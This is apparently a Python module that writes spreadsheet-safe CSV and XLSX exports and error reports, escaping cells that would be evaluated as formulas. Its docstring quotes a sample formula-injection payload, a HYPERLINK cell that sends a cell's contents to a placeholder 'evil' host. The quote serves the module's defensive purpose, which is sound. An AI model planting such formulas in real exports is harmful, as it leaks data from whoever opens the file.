"""Writing CSV/XLSX that is safe to open in a spreadsheet: exports and error reports.

Values in these files come from uploaded files and CRMs, so they can be hostile: a cell such as
``=HYPERLINK("http://evil/?"&A1)`` runs when an admin opens the report in Excel. Every text cell
that a spreadsheet would read as a formula (it starts with ``= + - @``, a tab or a carriage return)
is written with a leading single quote, as OWASP recommends. Numbers are written as numbers.

CSV is written as UTF-8 with a BOM (without it, Excel reads UTF-8 as cp1252 and mangles names) and
CRLF line ends. XLSX drops characters XML cannot hold and cuts cells at Excel's 32,767 characters.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from typing import Any, BinaryIO, Literal

import openpyxl
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from .tables import Reject, shorten

Format = Literal["csv", "xlsx"]
REPORT_HEADERS = ("row", "field", "reason", "value")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_MAX_ROWS = 1_048_576
XLSX_MAX_CELL = 32_767
_SURROGATES = re.compile("[\ud800-\udfff]")


def neutralise(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would evaluate it as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _csv_cell(value: object) -> object:
    if value is None:
        return ""
    if isinstance(value, str):
        return neutralise(value)
    return value


def _xlsx_cell(value: object) -> object:
    if value is None:
        return None
    if isinstance(value, (bool, int, float)):
        return value
    text = _SURROGATES.sub("\ufffd", ILLEGAL_CHARACTERS_RE.sub("\ufffd", neutralise(str(value))))
    return text[:XLSX_MAX_CELL]


@contextmanager
def _binary(target: str | os.PathLike[str] | BinaryIO) -> Iterator[BinaryIO]:
    if isinstance(target, (str, os.PathLike)):
        with open(target, "wb") as f:
            yield f
    else:
        yield target


def write_table(
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    target: str | os.PathLike[str] | BinaryIO,
    fmt: Format = "csv",
    *,
    title: str = "data",
) -> int:
    """Write ``headers`` and ``rows`` as CSV or XLSX to a path or a binary stream; returns the rows
    written. Rows are consumed as they come, so a report of a million rows needs no memory.

    XLSX holds at most 1,048,576 rows: beyond that the last row says how many were left out.
    A stream is flushed and left open.
    """
    if fmt not in ("csv", "xlsx"):
        raise ValueError(f"unknown format {fmt!r}: use 'csv' or 'xlsx'")
    with _binary(target) as stream:
        if fmt == "csv":
            return _write_csv(headers, rows, stream)
        return _write_xlsx(headers, rows, stream, title)


def _write_csv(headers: Sequence[str], rows: Iterable[Sequence[object]], stream: BinaryIO) -> int:
    text = io.TextIOWrapper(stream, encoding="utf-8-sig", errors="replace", newline="")
    try:
        writer = csv.writer(text)
        writer.writerow([_csv_cell(h) for h in headers])
        n = 0
        for row in rows:
            writer.writerow([_csv_cell(v) for v in row])
            n += 1
        text.flush()
        return n
    finally:
        text.detach()  # the caller's stream stays open


def _write_xlsx(headers: Sequence[str], rows: Iterable[Sequence[object]], stream: BinaryIO, title: str) -> int:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append([_xlsx_cell(h) for h in headers])
    n = left_out = 0
    for row in rows:
        if n < XLSX_MAX_ROWS - 2:
            sheet.append([_xlsx_cell(v) for v in row])
            n += 1
        else:
            left_out += 1
    if left_out:
        sheet.append([f"{left_out} more rows left out: XLSX holds {XLSX_MAX_ROWS:,} rows"])
    book.save(stream)
    return n


def _report_line(entry: Reject | Mapping[str, Any]) -> tuple[object, str, str, str]:
    line = entry.as_dict() if isinstance(entry, Reject) else entry
    value = line.get("value")
    return (
        line.get("row"),
        str(line.get("field") or ""),
        str(line.get("reason") or ""),
        "" if value is None else shorten(str(value)),
    )


def write_error_report(
    rows: Iterable[Reject | Mapping[str, Any]],
    target: str | os.PathLike[str] | BinaryIO,
    fmt: Format = "csv",
) -> int:
    """Write an error report (columns row, field, reason, value) through :func:`write_table`.

    ``rows`` are :class:`Reject` entries or dicts shaped like ``Page.rejects``; values are cut to
    1,000 characters. Returns the number of lines written.
    """
    return write_table(REPORT_HEADERS, (_report_line(r) for r in rows), target, fmt, title="errors")


def write_error_reports(rows: Iterable[Reject | Mapping[str, Any]], csv_out: BinaryIO, xlsx_out: BinaryIO) -> int:
    """The same error report as CSV and as XLSX, reading ``rows`` once (it may be a stream from the
    store): the XLSX is made from the CSV just written, so ``csv_out`` must be readable too.

    Returns the lines written; with none, ``xlsx_out`` is left untouched.
    """
    start = csv_out.tell()
    n = write_error_report(rows, csv_out, "csv")
    if n:
        csv_out.seek(start)
        text = io.TextIOWrapper(csv_out, encoding="utf-8-sig", newline="")
        lines = csv.reader(text)
        headers = next(lines)
        write_table(headers, ([int(r[0]) if r[0].isdigit() else r[0], *r[1:]] for r in lines), xlsx_out, "xlsx",
                    title="errors")
        text.detach()
    return n
